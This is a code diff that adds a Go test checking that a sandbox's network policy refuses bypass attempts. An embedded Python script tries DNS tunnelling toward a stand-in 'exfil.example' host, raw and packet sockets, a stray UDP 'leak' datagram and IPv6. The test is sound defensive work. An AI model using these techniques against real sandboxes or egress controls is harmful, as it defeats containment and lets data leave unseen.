@@ -354,3 +354,75 @@ func TestNetworkPolicy(t *testing.T) {
 		wantKind(t, err, api.KindInvalid)
 	}
 }
+
+// Bypasses a sandbox might try: DNS tunnelling, raw and packet sockets,
+// IPv6, UDP other than DNS. Each is refused, and the sandbox keeps working.
+func TestNetworkBypasses(t *testing.T) {
+	e, in := newNetEnv(t)
+	sb := e.create(t, api.CreateRequest{Network: &api.NetworkPolicy{Mode: api.NetAllow, Allow: []string{"allowed.test"}}})
+	// A UDP listener on the test internet: nothing may arrive there.
+	runtime.LockOSThread()
+	orig, _ := netns.Get()
+	netns.Set(in.ns)
+	udp, err := net.ListenPacket("udp4", inetAddr+":9999")
+	netns.Set(orig)
+	runtime.UnlockOSThread()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer udp.Close()
+	got := make(chan string, 1)
+	go func() {
+		buf := make([]byte, 100)
+		udp.SetReadDeadline(time.Now().Add(30 * time.Second))
+		if n, _, err := udp.ReadFrom(buf); err == nil {
+			got <- string(buf[:n])
+		}
+		close(got)
+	}()
+	script := `
+import socket, struct
+def q(name, qtype):
+    pkt = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
+    for label in name.split("."):
+        pkt += bytes([len(label)]) + label.encode()
+    pkt += b"\0" + struct.pack(">HH", qtype, 1)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
+    s.sendto(pkt, ("8.8.8.8", 53))
+    r = s.recv(512)
+    return r[3] & 0x0f, struct.unpack(">H", r[6:8])[0]
+print("txt", q("allowed.test", 16))
+print("tunnel", q("a"*60 + ".b"*20 + ".exfil.example", 1))
+print("a", q("allowed.test", 1))
+print("other", q("other.test", 1))
+for fam, typ, proto, what in ((socket.AF_PACKET, socket.SOCK_RAW, 0, "packet"), (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, "raw")):
+    try:
+        socket.socket(fam, typ, proto); print(what, "open")
+    except PermissionError:
+        print(what, "denied")
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.sendto(b"leak", ("` + inetAddr + `", 9999))
+try:
+    s6 = socket.create_connection(("2001:db8::1", 80), timeout=2); print("v6 open")
+except OSError:
+    print("v6 failed")
+`
+	r, err := e.c.Exec(context.Background(), sb.ID, api.ExecRequest{Cmd: []string{"python3", "-c", script}, Timeout: api.Duration(30 * time.Second)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	udp.SetReadDeadline(time.Now().Add(500 * time.Millisecond)) // the datagram had its chance
+	out := string(r.Stdout)
+	// rcode 5 = REFUSED; rcode 0 with answers for an allowed A query.
+	for _, want := range []string{"txt (5, 0)", "tunnel (5, 0)", "a (0, 1)", "other (5, 0)", "packet denied", "raw denied", "v6 failed"} {
+		if !strings.Contains(out, want+"\n") {
+			t.Errorf("want %q in:\n%s%s", want, out, r.Stderr)
+		}
+	}
+	if msg, ok := <-got; ok {
+		t.Fatalf("a UDP datagram left the sandbox: %q", msg)
+	}
+	if out, code := curl(t, e, sb.ID, "--noproxy", "*", "http://allowed.test/"); code != 0 || !strings.Contains(out, "hello") {
+		t.Fatalf("the sandbox stopped working: %d %s", code, out)
+	}
+}
